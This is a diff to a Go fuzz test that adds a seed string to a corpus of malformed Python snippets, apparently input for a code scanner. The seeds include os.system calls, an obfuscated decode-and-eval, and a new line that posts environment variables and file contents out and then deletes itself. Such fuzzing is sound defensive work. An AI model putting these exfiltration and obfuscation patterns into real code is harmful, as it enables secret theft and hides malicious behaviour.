@@ -258,6 +258,7 @@ func FuzzGather(f *testing.F) {
 		`{"cells":[{"cell_type":"code","source":["import os\n","os.system(\"\u00e9\")"]}]}`,
 		"import os; os.system('http://192.0.2.1/')\nnot code\n",
 		"s = ''.join(chr(c ^ 3) for c in bytes.fromhex('6162'))\neval(s.encode('rot13').decode())\nexec code in d\nprint `x`\n",
+		"import os, requests as r\nclass A:\n def f(self, k=os.environ): self.d[k] = open(k).read()\nr.post('u', json=A().f(**os.environ), data=[x for x in A.d])\nos.remove(__file__)\n",
 		"match x:\n case {'a': [b, *c]} if os.system(b): pass\ntry: pass\nexcept* E as os: os.system\nfinally: del os\n",
 	} {
 		f.Add(uint8(i), seed)
